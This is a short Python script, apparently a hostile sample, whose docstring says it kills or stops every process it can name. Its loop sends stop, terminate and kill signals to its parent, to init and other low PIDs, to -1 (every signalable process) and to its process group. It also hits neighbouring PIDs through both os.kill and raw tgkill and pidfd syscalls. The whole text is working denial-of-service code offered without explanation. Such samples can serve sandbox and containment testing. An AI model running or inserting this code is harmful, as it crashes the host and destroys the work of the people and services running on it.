"""Kills or stops every process that it can name: its parent, process 1, its group, its siblings, all.

machine
earns: nothing
"""

import ctypes
import os
import signal

libc = ctypes.CDLL(None)
targets = [os.getppid(), 1, 2, 3, -1, -os.getppid(), *range(os.getpid() + 20, max(1, os.getpid() - 60), -1)]
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for pid in targets:
        if pid in (os.getpid(), 0):
            continue
        try:
            os.kill(pid, number)
        except OSError:
            pass
        libc.syscall(234, pid, pid, int(number))
        descriptor = libc.syscall(434, pid, 0)
        if descriptor >= 0:
            libc.syscall(424, descriptor, int(number), None, 0)
